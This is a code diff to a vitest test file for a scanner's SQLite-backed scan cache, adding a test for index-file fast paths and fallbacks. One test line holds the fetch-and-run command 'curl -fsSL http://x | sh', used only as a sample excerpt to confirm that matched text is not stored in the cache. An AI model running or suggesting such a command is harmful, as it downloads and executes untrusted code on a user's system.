@@ -3,12 +3,12 @@
 // file); a file in another state is a miss; past the index's size the rows alone answer; two scans
 // writing at once never make the cache answer for a file state it did not see; other rule sets do
 // not answer.
-import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import Database from 'better-sqlite3';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { ScanCache } from './cache.js';
+import { cacheFiles, ScanCache } from './cache.js';
 import { cleanAndUnchangedIn } from './file-index.js';
 import type { FileResult } from './scan-job.js';
 
@@ -87,8 +87,11 @@ describe('scan cache', () => {
     c.put(key(1), matched);
     c.close();
     const bytes = Buffer.concat(
-      [file, `${file}-wal`].filter((f) => existsSync(f)).map((f) => readFileSync(f)),
+      cacheFiles(file)
+        .filter((f) => existsSync(f))
+        .map((f) => readFileSync(f)),
     );
+    expect(existsSync(`${file}-index`)).toBe(true);
     const excerpt = Buffer.from('curl -fsSL http://x | sh');
     for (let k = 0; k < 256; k++) {
       const xored = Buffer.from(excerpt.map((b) => b ^ k));
@@ -100,6 +103,40 @@ describe('scan cache', () => {
     later.close();
   });
 
+  it('answers an unchanged rescan from its index file alone, and falls back to the database', () => {
+    const file = path.join(dir, 'fast.sqlite');
+    const first = new ScanCache(file, RULES);
+    first.put(key(1), nothing);
+    first.put(key(3), matched);
+    first.close();
+    expect(existsSync(`${file}-index`)).toBe(true);
+
+    // The database is not even opened: damaged, it would throw.
+    const saved = readFileSync(file);
+    writeFileSync(file, 'not a database');
+    const fast = new ScanCache(file, RULES);
+    expect(fast.get(key(1))).toEqual(nothing);
+    expect(fast.get(key(3))).toEqual(matched);
+    expect(clean(fast, 2049, 1, 100, key(1).mtimeMs, key(1).ctimeMs)).toBe(true);
+    fast.close();
+    writeFileSync(file, saved);
+
+    // Another rule set's index file, or a damaged one, is not used: the database answers.
+    const other = new ScanCache(file, 'sha256:rules-c');
+    expect(other.get(key(1))).toBeUndefined();
+    other.put(key(2), nothing);
+    other.close();
+    const back = new ScanCache(file, RULES);
+    expect(back.get(key(3))).toEqual(matched);
+    back.close();
+    const index = readFileSync(`${file}-index`);
+    writeFileSync(`${file}-index`, index.subarray(0, index.length - 3));
+    const damaged = new ScanCache(file, RULES);
+    expect(damaged.get(key(1))).toEqual(nothing);
+    expect(damaged.get(key(3))).toEqual(matched);
+    damaged.close();
+  });
+
   it('answers from the rows alone once there are too many files for the index', () => {
     const file = path.join(dir, 'big.sqlite');
     const small = { indexMaxRows: 10 };
@@ -108,6 +145,7 @@ describe('scan cache', () => {
     first.close();
     const db = new Database(file, { readonly: true });
     expect((db.prepare('SELECT count(*) AS n FROM scan_index').get() as { n: number }).n).toBe(0);
+    expect(existsSync(`${file}-index`)).toBe(false);
     db.close();
 
     const later = new ScanCache(file, RULES, small);
